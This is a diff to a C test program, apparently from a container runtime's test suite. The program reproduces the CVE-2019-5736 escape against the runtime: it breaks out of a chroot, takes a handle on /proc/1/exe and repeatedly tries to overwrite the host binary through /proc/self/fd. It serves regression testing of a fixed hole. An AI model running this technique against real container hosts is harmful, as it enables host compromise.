@@ -1,11 +1,12 @@
-/* attack: CVE-2019-5736 against mvrc itself, the way issue 9 found it. Run by a nested
- * `mvrc run --ns '' /inner /attack` whose mvrc is the container's COMMAND (started as
- * /proc/self/exe), so the container's PID 1 is that nested mvrc. It climbs out of the
- * nested chroot (CAP_SYS_CHROOT, as escape.c does), takes an O_PATH handle on /proc/1/exe,
- * says which file it holds ("handle DEV:INO" or "handle ERRNO"), then "ready", and until it
- * is killed (or 2 s pass) tries to open that file for writing through /proc/self/fd and
- * put its mark at offset 0: the moment mvrc is killed and PID 1's image is unmapped, a
- * host binary would no longer be busy. Static (gcc -static): the busybox rootfs has no libc.
+/* attack: CVE-2019-5736 against mvrc itself, the way issue 9 found it, on what is left of
+ * mvrc in a container: run as COMMAND under --init, PID 1 is mvrc's init (issue 9's route
+ * was a nested mvrc run from /proc/self/exe, which now leads to the sealed hop). It climbs
+ * out of any chroot (CAP_SYS_CHROOT, as escape.c does), takes an O_PATH handle on
+ * /proc/1/exe, says which file it holds ("handle DEV:INO" or "handle ERRNO"), then "ready",
+ * and until it is killed (or 2 s pass) tries to open that file for writing through
+ * /proc/self/fd and put its mark at offset 0: the moment mvrc is killed and PID 1's image
+ * is unmapped, a host binary would no longer be busy. Static (gcc -static): the busybox
+ * rootfs has no libc.
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -29,9 +30,10 @@ static long long now(void)
 
 int main(void)
 {
-	if (mkdir("attack-dir", 0700) != 0 && errno != EEXIST)
+	/* /tmp: writable whoever runs mvrc (as root, the staged rootfs is not root's own). */
+	if (mkdir("/tmp/attack-dir", 0700) != 0 && errno != EEXIST)
 		return perror("mkdir"), 1;
-	if (chroot("attack-dir") != 0)
+	if (chdir("/tmp") != 0 || chroot("attack-dir") != 0)
 		return perror("chroot"), 1;
 	for (int i = 0; i < CLIMB; i++)
 		if (chdir("..") != 0)
